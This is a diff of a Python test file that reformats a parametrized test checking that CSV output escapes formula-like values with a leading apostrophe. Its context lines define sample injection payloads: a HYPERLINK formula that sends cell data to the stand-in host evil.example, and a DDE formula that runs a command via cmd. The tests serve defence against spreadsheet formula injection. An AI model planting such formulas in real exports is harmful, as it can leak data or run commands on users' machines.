@@ -16,10 +16,20 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"click")'
 DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
 
 
-@pytest.mark.parametrize("value, written", [
-    ("=1+1", "'=1+1"), ("+86 138", "'+86 138"), ("-2", "'-2"), (DDE, "'" + DDE),
-    ("\tx", "'\tx"), ("\rx", "'\rx"), ("林晓雯", "林晓雯"), ("a=b", "a=b"), ("", ""),
-])
+@pytest.mark.parametrize(
+    "value, written",
+    [
+        ("=1+1", "'=1+1"),
+        ("+86 138", "'+86 138"),
+        ("-2", "'-2"),
+        (DDE, "'" + DDE),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("林晓雯", "林晓雯"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
 def test_csv_values_a_spreadsheet_would_evaluate_get_an_apostrophe(value, written):
     assert csv_text(value) == written
 
